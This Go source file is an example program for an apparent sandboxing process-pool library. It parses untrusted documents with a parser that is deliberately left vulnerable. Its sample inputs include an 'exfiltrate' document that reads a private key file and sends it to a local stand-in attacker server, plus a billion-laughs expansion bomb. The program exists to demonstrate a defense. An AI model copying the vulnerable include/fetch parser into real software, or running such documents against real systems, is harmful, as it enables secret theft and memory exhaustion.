// Sandbox parses untrusted documents in a pool of sandboxed workers. The
// parser is naive on purpose, as parsers of formats with includes and
// external references often are (XML's external entities, YAML's tags):
// a document may include a file and fetch a URL. A hostile document uses
// that to read a secret and send it home, and another to exhaust the
// machine; in the sandbox each attempt fails and the program goes on.
//
// Run it with `go run ./examples/sandbox` (Linux; elsewhere it says the
// sandbox is unsupported). `-unsafe` runs the same documents without the
// sandbox, to show what it prevented.
package main

//go:generate go tool mpgen

import (
	"bufio"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	mp "github.com/mpgen/mpgen/runtime"
)

// Summary is what parsing a document found.
type Summary struct {
	Fields   map[string]string
	Problems []string // directives that failed, with why
}

// parse reads "key: value" lines. "!include PATH" adds the file's lines;
// "!fetch HOST:PORT DATA" sends DATA to a server and adds its reply;
// "!expand N" doubles the document N times over (a billion laughs).
//
//mp:target
func parse(doc string) (Summary, error) {
	s := Summary{Fields: map[string]string{}}
	lines := strings.Split(doc, "\n")
	for i := 0; i < len(lines); i++ {
		line := strings.TrimSpace(lines[i])
		directive, arg, _ := strings.Cut(line, " ")
		switch directive {
		case "!include":
			b, err := os.ReadFile(arg)
			if err != nil {
				s.Problems = append(s.Problems, err.Error())
				continue
			}
			// The included lines come next, as if written here.
			lines = slices.Insert(lines, i+1, strings.Split(string(b), "\n")...)
		case "!fetch":
			addr, data, _ := strings.Cut(arg, " ")
			for key, v := range s.Fields { // the document may refer to what it read
				data = strings.ReplaceAll(data, "$"+key, v)
			}
			if err := fetch(addr, data); err != nil {
				s.Problems = append(s.Problems, err.Error())
			}
		case "!expand":
			var n int
			fmt.Sscan(arg, &n)
			text := doc
			for range n {
				text += text // doubles each time: 2^n copies
			}
			lines = append(lines, strings.Split(text, "\n")...)
		default:
			if k, v, ok := strings.Cut(line, ":"); ok {
				s.Fields[strings.TrimSpace(k)] = strings.TrimSpace(v)
			}
		}
	}
	return s, nil
}

func fetch(addr, data string) error {
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = fmt.Fprintln(c, data)
	return err
}

func main() {
	unsafe := flag.Bool("unsafe", false, "parse without the sandbox, to see what it prevents")
	flag.Parse()
	ctx := context.Background()

	// A secret the documents must never see, and a server that plays the
	// attacker's: it counts what reaches it.
	dir, err := os.MkdirTemp("", "mpgen-sandbox-example-")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)
	secret := filepath.Join(dir, "id_ed25519")
	if err := os.WriteFile(secret, []byte("key: PRIVATE-KEY-MATERIAL\n"), 0o600); err != nil {
		log.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	defer ln.Close()
	var stolen atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			if line, _ := bufio.NewReader(c).ReadString('\n'); strings.Contains(line, "PRIVATE") {
				stolen.Add(1)
			}
			c.Close()
		}
	}()

	docs := map[string]string{
		"invoice":    "customer: ACME\ntotal: 42.00\n",
		"exfiltrate": "title: harmless\n!include " + secret + "\n!fetch " + ln.Addr().String() + " $key\n",
		"bomb":       "laugh: ha\n!expand 40\n",
	}
	// The workers' own output is not shown: the bomb's worker crashes
	// with a page of the Go runtime's report, which its error sums up.
	opts := []mp.PoolOption{mp.Workers(2), mp.PoolOutput(os.Stdout, io.Discard)}
	if !*unsafe {
		// No file, no network, 512 MiB and 10 s of CPU per worker, and
		// a fresh worker for every document.
		opts = append(opts, mp.MaxTasksPerChild(1), mp.PoolSandbox(&mp.Sandbox{
			Memory:  512 << 20,
			CPUTime: 10 * time.Second,
		}))
	} else {
		delete(docs, "bomb") // unconfined, it would take the machine's memory
	}
	pool, err := mp.NewPool(ctx, opts...)
	if errors.Is(err, errors.ErrUnsupported) {
		fmt.Println("sandboxed children need Linux:", err)
		return
	}
	if err != nil {
		log.Fatal(err)
	}
	defer func() { pool.Close(); _ = pool.Join() }()

	for _, name := range []string{"invoice", "exfiltrate", "bomb"} {
		doc, ok := docs[name]
		if !ok {
			continue
		}
		s, err := mp.Submit[Summary](ctx, pool, parse, doc).Get()
		var le *mp.LimitError
		switch {
		case errors.As(err, &le):
			fmt.Printf("%-10s stopped: over its %s limit (%s)\n", name, le.Limit, le.Value)
		case err != nil:
			fmt.Printf("%-10s failed: %v\n", name, err)
		default:
			fmt.Printf("%-10s fields %v\n", name, s.Fields)
			for _, p := range s.Problems {
				fmt.Printf("%-10s   refused: %s\n", "", p)
			}
		}
	}
	fmt.Printf("secrets that reached the attacker: %d\n", stolen.Load())
}
